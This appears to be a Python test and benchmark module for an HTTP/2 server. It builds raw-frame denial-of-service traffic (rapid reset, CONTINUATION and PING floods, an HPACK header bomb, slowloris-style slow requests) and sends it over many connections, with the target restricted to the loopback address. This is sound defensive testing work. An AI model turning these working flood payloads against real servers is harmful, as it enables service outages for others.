"""Attacks, as bytes: what `tests/test_hostile.py` sends once, and `benchmarks/soak.py` without end.

`FLOODS` are legal frames in illegal numbers, each with the reason the server gives for its end.
`ATTACKS` are these, endless, and those that hold a connection, or ask for much by little.  An
attack makes bytes for one connection; `python -m benchmarks.attacks HOST PORT NAME CONNECTIONS`
sends them over that many, each of which comes back when the server has ended it, until stdin ends.
It attacks nothing but this machine.
"""

from __future__ import annotations

import ipaddress
import json
import os
import signal
import ssl
import sys
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass
from functools import cache
from itertools import count, repeat
from typing import Literal, Protocol, TypeAlias, final

import hpack
import trio

__all__ = ["ATTACKS", "EVENTS", "FLOODS", "Asker", "Attack", "malformed_requests"]

# The topic that honest tabs listen to, too.
EVENTS = "/events?topic=a"

# RFC 9113 6.
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS = 0, 1, 2, 3, 4
_PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION = 6, 7, 8, 9
_END_STREAM, _ACK, _END_HEADERS = 0x1, 0x1, 0x4
_INITIAL_WINDOW_SIZE = 4
_MAX_WINDOW = 2**31 - 1
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Of one attempt to connect, or one write that is not taken, and between two connections.
_PATIENCE_SECONDS = 100.0
_AGAIN_SECONDS = 0.02
_READ_BYTES = 64 * 1024


class _Numbered(Protocol):
    @property
    def id(self) -> int:
        """The stream's id."""


class Asker(Protocol):
    """A connection that counts its streams and keeps its header table."""

    def request(
        self,
        path: str,
        *fields: tuple[str, str],
        method: str = "GET",
        body: bytes | None = None,
    ) -> tuple[_Numbered, bytes]:
        """The next stream, and the bytes that would open it."""


_Build: TypeAlias = Callable[[Asker], list[bytes]]


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
    return head + payload


def _settings(settings: Mapping[int, int]) -> bytes:
    pairs = (name.to_bytes(2, "big") + value.to_bytes(4, "big") for name, value in settings.items())
    return _frame(_SETTINGS, 0, 0, b"".join(pairs))


def _window_update(stream: int, increment: int) -> bytes:
    return _frame(_WINDOW_UPDATE, 0, stream, increment.to_bytes(4, "big"))


def _reset(stream: int) -> bytes:
    return _frame(_RST_STREAM, 0, stream, (8).to_bytes(4, "big"))


# -- floods


def _requests(asker: Asker, number: int, *fields: tuple[str, str]) -> list[tuple[int, bytes]]:
    """So many GET requests, as stream and bytes."""
    made = [asker.request(EVENTS, *fields) for _ in range(number)]
    return [(stream.id, data) for stream, data in made]


def _rapid_resets(asker: Asker) -> list[bytes]:
    return [data + _reset(stream) for stream, data in _requests(asker, 60)]


def _rapid_resets_by_two(asker: Asker) -> list[bytes]:
    made = _requests(asker, 60)
    return [data for _, data in made] + [_reset(stream) for stream, _ in made]


def malformed_requests(asker: Asker) -> list[bytes]:
    """Requests with a control byte in a value."""
    return [data for _, data in _requests(asker, 60, ("x", "a\x01"))]


def _windows_that_overflow(asker: Asker) -> list[bytes]:
    return [data + _window_update(stream, _MAX_WINDOW) for stream, data in _requests(asker, 60)]


def _windows_of_nothing(asker: Asker) -> list[bytes]:
    return [data + _window_update(stream, 0) for stream, data in _requests(asker, 60)]


def _data_after_the_end(asker: Asker) -> list[bytes]:
    return [data + _frame(_DATA, 0, stream, bytes(40)) for stream, data in _requests(asker, 60)]


def _data_on_a_reset_stream(asker: Asker) -> list[bytes]:
    ((stream, data),) = _requests(asker, 1)
    return [data, _reset(stream), *[_frame(_DATA, 0, stream, bytes(40))] * 60]


def _sections_too_large(asker: Asker) -> list[bytes]:
    return [data for _, data in _requests(asker, 6, *[("a", "b")] * 200)]


def _body_without_end(asker: Asker) -> tuple[int, bytes]:
    """A POST whose body is to follow, as stream and bytes."""
    stream, data = asker.request("/publish", method="POST", body=b"")
    return stream.id, data[:4] + bytes((_END_HEADERS,)) + data[5 : len(data) - 9]


def _on_an_open_body(kind: int, payload: bytes, number: int) -> _Build:
    def build(asker: Asker) -> list[bytes]:
        stream, opening = _body_without_end(asker)
        return [opening, *[_frame(kind, 0, stream, payload)] * number]

    return build


def _repeated(data: bytes, number: int) -> _Build:
    return lambda _: [data] * number


FLOODS: dict[str, tuple[_Build, str]] = {
    "PING": (_repeated(_frame(_PING, 0, 0, bytes(8)), 101), "too many PING frames"),  # 2019-9512
    "PING answers": (_repeated(_frame(_PING, _ACK, 0, bytes(8)), 101), "too many PING frames"),
    "PRIORITY": (  # CVE-2019-9513
        _repeated(_frame(_PRIORITY, 0, 1, bytes(5)), 101),
        "too many PRIORITY frames",
    ),
    "WINDOW_UPDATE": (_repeated(_window_update(0, 1), 101), "too many WINDOW_UPDATE frames"),
    "GOAWAY": (_repeated(_frame(_GOAWAY, 0, 0, bytes(8)), 101), "too many GOAWAY frames"),
    "unknown frames": (_repeated(_frame(0xBB, 0, 0), 101), "too many unknown frames"),
    "empty DATA": (_on_an_open_body(_DATA, b"", 110), "too many short DATA frames"),  # 2019-9518
    "DATA of a byte": (_on_an_open_body(_DATA, b"x", 110), "too many short DATA frames"),
    "SETTINGS": (_repeated(_settings({}), 6), "too many SETTINGS frames"),  # CVE-2019-9515
    "rapid resets": (_rapid_resets, "too many requests given up"),  # CVE-2023-44487
    "rapid resets, by two": (_rapid_resets_by_two, "too many requests given up"),
    # CVE-2025-8671: what makes us reset.
    "malformed requests": (malformed_requests, "too many requests given up"),
    "windows that overflow": (_windows_that_overflow, "too many requests given up"),
    "windows of nothing": (_windows_of_nothing, "too many requests given up"),
    "DATA after the end": (_data_after_the_end, "too many requests given up"),
    "DATA on a reset stream": (_data_on_a_reset_stream, "too many requests given up"),
    "sections too large": (_sections_too_large, "too many requests given up"),
}


# -- attacks without end


@final
@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """What one connection sends, over and over.

    After its last piece it waits for the server to end it; with `leaves` it goes itself.
    """

    make: Callable[[Asker], Iterator[bytes]]
    over: Literal["h2", "http/1.1", "tcp"] = "h2"
    hello: bytes = _PREFACE + _settings({})
    reads: bool = True
    leaves: bool = False
    pause_seconds: float = 0.0  # between two pieces


def _endless(build: _Build) -> Attack:
    def make(asker: Asker) -> Iterator[bytes]:
        while True:
            yield b"".join(build(asker))

    return Attack(make=make)


def _nothing(_: Asker) -> Iterator[bytes]:
    return iter(())


def _once(*pieces: bytes) -> Callable[[Asker], Iterator[bytes]]:
    return lambda _: iter(pieces)


def _tabs(asker: Asker) -> Iterator[bytes]:
    """As many as the server takes."""
    yield b"".join(data for _, data in _requests(asker, 250))


def _comes_and_goes(asker: Asker) -> Iterator[bytes]:
    """Ten tabs that are open for a moment: no attack, unless something of them stays."""
    streams = _requests(asker, 10)
    yield b"".join(data for _, data in streams)
    yield b"".join(_reset(stream) for stream, _ in streams[:5])


def _slow_body(asker: Asker) -> Iterator[bytes]:
    stream, opening = _body_without_end(asker)
    yield opening
    yield from repeat(_frame(_DATA, 0, stream, b"x"))


def _bomb(asker: Asker) -> Iterator[bytes]:
    stream, data = asker.request("/healthz", ("x", "y"))
    yield data
    yield _frame(_HEADERS, 5, stream.id + 2, b"\xbe" * 1_900)  # CVE-2016-6581


_SLOWLY = 1.0
_WIDE = _settings({_INITIAL_WINDOW_SIZE: _MAX_WINDOW}) + _window_update(0, _MAX_WINDOW - 65_535)
_GET = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"
_HOLDING = b"GET /healthz HTTP/1.1\r\nHost: a\r\nX: "

ATTACKS: dict[str, Attack] = {
    **{name: _endless(build) for name, (build, _) in FLOODS.items()},
    "CONTINUATION": Attack(  # CVE-2024-27316
        make=_once(_frame(_HEADERS, _END_STREAM, 1), *[_frame(_CONTINUATION, 0, 1, b"x")] * 1_000)
    ),
    "header bomb": Attack(make=_bomb),
    "a frame of 16 MiB": Attack(make=_once(b"\xff\xff\xff\0\0" + bytes(4))),
    "no TLS": Attack(make=_nothing, over="tcp", hello=b""),
    "no preface": Attack(make=_nothing, hello=b""),
    "no request": Attack(make=_nothing),
    "half a frame": Attack(make=_once(_frame(_HEADERS, 5, 1, bytes(100))[:50])),
    "a section without end": Attack(
        make=lambda _: iter((_frame(_HEADERS, _END_STREAM, 1), *[_frame(_CONTINUATION, 0, 1)] * 7)),
        pause_seconds=_SLOWLY,
    ),
    "a slow body": Attack(make=_slow_body, pause_seconds=_SLOWLY),
    "no window": Attack(make=_tabs, hello=_PREFACE + _settings({_INITIAL_WINDOW_SIZE: 0})),
    "no reading": Attack(make=_tabs, hello=_PREFACE + _WIDE, reads=False),
    "come and go": Attack(make=_comes_and_goes, leaves=True, pause_seconds=0.05),
    "handshakes": Attack(make=_nothing, leaves=True),
    "http/1.1: a slow head": Attack(
        make=lambda _: (_HOLDING if not at else b"y" for at in count()),
        over="http/1.1",
        hello=b"",
        pause_seconds=_SLOWLY,
    ),
    "http/1.1: early requests": Attack(
        make=lambda _: repeat(_GET * 100), over="http/1.1", hello=b""
    ),
}


# -- the process that attacks


@final
@dataclass(frozen=True, slots=True)
class _Stream:
    id: int


@final
class _Client:
    def __init__(self) -> None:
        self._next = 1
        self._encoder = hpack.Encoder()

    def request(
        self,
        path: str,
        *fields: tuple[str, str],
        method: str = "GET",
        body: bytes | None = None,
    ) -> tuple[_Stream, bytes]:
        stream = _Stream(self._next)
        self._next += 2
        head = ((":method", method), (":scheme", "https"), (":authority", "a"), (":path", path))
        block = bytes(self._encoder.encode([*head, *fields]))
        data = _frame(
            _HEADERS, _END_HEADERS | (_END_STREAM if body is None else 0), stream.id, block
        )
        if body is not None:
            data += _frame(_DATA, _END_STREAM, stream.id, body)
        return stream, data


@cache
def _context(protocol: str) -> ssl.SSLContext:
    """One for all: to make it takes longer than to connect."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


async def _attack_once(attack: Attack, host: str, port: int) -> None:
    stream: trio.abc.Stream = await trio.open_tcp_stream(host, port)
    try:
        if attack.over != "tcp":
            stream = trio.SSLStream(stream, _context(attack.over), https_compatible=True)
            await stream.do_handshake()
        async with trio.open_nursery() as nursery:
            if attack.reads:
                nursery.start_soon(_read, stream, nursery.cancel_scope)
            await stream.send_all(attack.hello)
            for piece in attack.make(_Client()):
                await stream.send_all(piece)
                await trio.sleep(attack.pause_seconds)
            if attack.leaves:
                nursery.cancel_scope.cancel()
            await trio.sleep(_PATIENCE_SECONDS)
    finally:
        await trio.aclose_forcefully(stream)


async def _read(stream: trio.abc.Stream, cancel_scope: trio.CancelScope) -> None:
    with suppress(trio.BrokenResourceError):
        while await stream.receive_some(_READ_BYTES):
            pass
    cancel_scope.cancel()


async def _attack(attack: Attack, host: str, port: int, counts: Counter[str]) -> None:
    while True:
        counts["connections"] += 1
        try:
            with trio.move_on_after(_PATIENCE_SECONDS):
                await _attack_once(attack, host, port)
        except* (OSError, trio.BrokenResourceError, ssl.SSLError):
            pass  # that is what it is for
        await trio.sleep(_AGAIN_SECONDS)


async def _main(name: str, host: str, port: int, connections: int) -> Counter[str]:
    counts: Counter[str] = Counter(connections=0)
    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(_attack, ATTACKS[name], host, port, counts)
        print("begun", flush=True)
        async with trio.lowlevel.FdStream(os.dup(0)) as stdin:
            async for _ in stdin:
                pass
        nursery.cancel_scope.cancel()
    return counts


def main(arguments: list[str]) -> None:
    """Say "begun" and attack until stdin ends; then say how many connections that took."""
    host, port, name, connections = arguments
    if not ipaddress.ip_address(host).is_loopback:
        raise SystemExit(f"{host} is not this machine: nothing else is attacked")
    # Ctrl-C is the runner's: it closes our stdin.
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    counts = trio.run(_main, name, host, int(port), int(connections))
    print(json.dumps(counts), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
